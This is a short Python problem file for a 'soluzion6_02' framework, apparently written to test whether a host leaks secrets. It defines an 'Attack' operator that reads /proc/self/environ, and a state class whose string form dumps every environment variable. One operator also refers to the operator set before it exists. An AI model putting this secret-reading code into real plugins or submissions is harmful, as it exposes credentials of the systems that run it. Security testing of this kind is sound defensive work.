import soluzion6_02 as sz
import os


class Spy(sz.SZ_State):
    def __str__(self):
        return "env: %r" % dict(os.environ)


def attack(s):
    with open("/proc/self/environ") as f:
        leaked = f.read()
    new = Spy(s)
    new.jit_transition = leaked
    return new


F = sz.SZ_Formulation()
F.metadata = sz.SZ_Metadata(name="Read env secret")
F.operators = sz.SZ_Operator_Set([sz.SZ_Operator("Attack", "", lambda s: True, attack),
                                  sz.SZ_Operator("Count up", "", lambda s: True, F.operators.operators[0].state_xition_func)])
F.initialize_problem = lambda config={}: Spy()
